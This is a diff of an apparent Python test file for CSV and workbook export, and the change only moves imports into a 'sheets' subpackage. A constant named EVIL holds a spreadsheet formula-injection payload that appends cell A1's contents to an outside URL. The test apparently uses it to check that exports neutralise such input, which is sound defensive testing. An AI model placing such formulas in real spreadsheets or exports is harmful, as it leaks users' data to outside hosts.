@@ -6,9 +6,9 @@ from typing import Any
 import pytest
 from openpyxl import load_workbook
 
-from knowledge.domain.csv_writing import to_csv
-from knowledge.domain.spreadsheet import guarded, neutral
-from knowledge.domain.workbook_writing import to_workbook
+from knowledge.domain.sheets.csv_writing import to_csv
+from knowledge.domain.sheets.spreadsheet import guarded, neutral
+from knowledge.domain.sheets.workbook_writing import to_workbook
 from tests.knowledge.samples import an_entry
 
 EVIL = '=HYPERLINK("http://example.com/?"&A1)'
